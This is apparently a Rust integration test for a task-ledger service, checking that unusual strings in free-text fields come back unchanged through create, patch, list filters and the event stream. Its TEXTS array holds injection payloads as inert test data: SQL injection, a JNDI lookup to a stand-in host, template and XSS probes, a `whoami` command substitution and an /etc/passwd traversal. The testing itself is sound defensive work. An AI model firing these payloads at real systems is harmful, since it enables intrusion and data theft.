//! What looks like an attack in a free string is a string like any other: everybody is given it back, unchanged.

use serde_json::{Value, json};

use super::ledger::{Ledger, create_with, encoded, object, quoted, row};
use crate::support::stream::{assert_stream_is_the_log, stream_records};

const TEXTS: [&str; 40] = [
    "'; DROP TABLE \"VtidLedger\"; --",
    "' OR '1'='1",
    "1); DELETE FROM ledger.event; --",
    "$1",
    "E'\\x00'",
    "%",
    "_",
    "*",
    ">",
    "oasis.*.vtid-ledger.>",
    "a?b[c]{d}(e)|f^g$",
    "\"",
    "'",
    "`whoami`",
    "\\",
    "\\\"",
    "\\u0041",
    "\\n",
    "%00",
    "%F0%9F%9A%80 + a+b&c=d#e",
    "${jndi:ldap://x.example/a}",
    "{{7*7}} <%= 7*7 %> #{7*7}",
    "<script>alert(1)</script>&amp;",
    "../../etc/passwd",
    "{\"ok\":false}",
    "null",
    "VTID-2026-0001",
    "🚀",
    "👨‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 👍🏽",
    "مرحبا بالعالم",
    "שלום \u{202e}dlrow\u{202c} \u{2066}x\u{2069}",
    "é e\u{301} \u{212b} \u{c5}",
    "ﬁ ① ＡＢＣ ｱ",
    "a\u{200b}b\u{200d}c\u{2060}d\u{ad}e",
    "\u{feff}mark",
    "line\u{2028}paragraph\u{2029}end",
    "\u{fffe}\u{ffff}\u{10ffff}\u{e000}",
    " spaces before and after  ",
    "\u{a0}no-break\u{3000}",
    "Zalgo Z\u{351}\u{36b}\u{343}a\u{328}\u{335}",
];

/// The text as sent in escapes: what comes back is the same string.
fn escaped(text: &str) -> String {
    let units: Vec<String> = text.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
    format!("\"{}\"", units.concat())
}

fn expected(text: &str) -> Value {
    json!({
        "task_family": text, "task_type": text, "description": text, "assigned_to": text,
        "metadata": {"text": text, text: [text]},
    })
}

fn assert_row(row: &Value, text: &str) {
    let expected = expected(text);
    for (field, value) in expected.as_object().unwrap() {
        assert_eq!(&row[field], value, "{field} of {text:?}");
    }
}

#[tokio::test]
async fn every_text_comes_back_from_everywhere() {
    let ledger = Ledger::start().await;
    let mut vtids = Vec::new();
    for (index, text) in TEXTS.into_iter().enumerate() {
        let sent = if index % 2 == 0 { quoted(text) } else { escaped(text) };
        let metadata = format!("{{\"text\":{sent},{sent}:[{sent}]}}");
        let body = create_with(&[
            ("taskFamily", &sent),
            ("taskType", &sent),
            ("description", &sent),
            ("assignedTo", &sent),
            ("metadata", &metadata),
        ]);
        let made = ledger.takes(ledger.post(body)).await;
        let vtid = made.vtid().to_owned();
        assert_row(&made.body["data"], text);
        let path = format!("/vtid/{vtid}");
        // A patch of one thing gives back all the others; a patch of each gives it back too.
        let change =
            |fields: &[(&str, &str)]| ledger.with_json(reqwest::Method::PATCH, &path, object(fields));
        let answers = [
            ledger.takes(change(&[("status", "\"active\"")])).await,
            ledger.takes(change(&[("assignedTo", "null"), ("metadata", "null")])).await,
            ledger.takes(change(&[("assignedTo", &sent)])).await,
            ledger.takes(change(&[("metadata", &metadata)])).await,
        ];
        assert_row(&answers[0].body["data"][0], text);
        assert_eq!(answers[1].body["data"][0]["description"], text);
        assert_eq!(answers[2].body["data"][0]["assigned_to"], text);
        assert_row(&answers[3].body["data"][0], text);
        for shown in ledger.shown(&vtid).await {
            assert_row(row(&shown, &vtid), text);
        }
        vtids.push(vtid);
    }
    each_is_found_by_its_filter_alone(&ledger, &vtids).await;
    each_is_in_its_message(&ledger, &vtids).await;
}

/// Nothing in a filter is a pattern, nothing is folded or trimmed.
async fn each_is_found_by_its_filter_alone(ledger: &Ledger, vtids: &[String]) {
    for (text, vtid) in TEXTS.iter().zip(vtids) {
        let value = encoded(text);
        for filter in ["taskFamily", "taskType", "assignedTo"] {
            let listed = ledger.service.get(&format!("/vtid/list?{filter}={value}")).await.expect(200);
            assert_eq!(listed.body["count"], 1, "{filter} {text:?}: {}", listed.text);
            assert_eq!(listed.body["data"][0]["vtid"], vtid.as_str());
            assert_row(&listed.body["data"][0], text);
        }
    }
}

async fn each_is_in_its_message(ledger: &Ledger, vtids: &[String]) {
    let nats = ledger.platform.nats.url();
    assert_stream_is_the_log(ledger.platform.database.url(), &nats).await;
    let records = stream_records(&nats).await;
    let records: Vec<Value> = records.iter().map(|record| serde_json::from_str(record).unwrap()).collect();
    for (text, vtid) in TEXTS.iter().zip(vtids) {
        let of_task: Vec<&Value> =
            records.iter().filter(|record| record["subject"] == vtid.as_str()).collect();
        assert_eq!(of_task.len(), 5);
        let created = &of_task[0]["data"];
        for field in ["taskFamily", "taskType", "description", "assignedTo"] {
            assert_eq!(created[field], *text, "{field}");
        }
        let metadata = &expected(text)["metadata"];
        assert_eq!((&created["metadata"], &of_task[4]["data"]["metadata"]), (metadata, metadata));
        assert_eq!(of_task[3]["data"]["assignedTo"], *text);
    }
}

/// The two control characters that a description may have.
#[tokio::test]
async fn a_description_may_have_lines_and_tabs() {
    let ledger = Ledger::start().await;
    let text = "\tfirst\n\n\tsecond\n";
    let made = ledger.takes(ledger.post(create_with(&[("description", &escaped(text))]))).await;
    assert_eq!(made.body["data"]["description"], text);
    for shown in ledger.shown(made.vtid()).await {
        assert_eq!(row(&shown, made.vtid())["description"], text);
    }
}
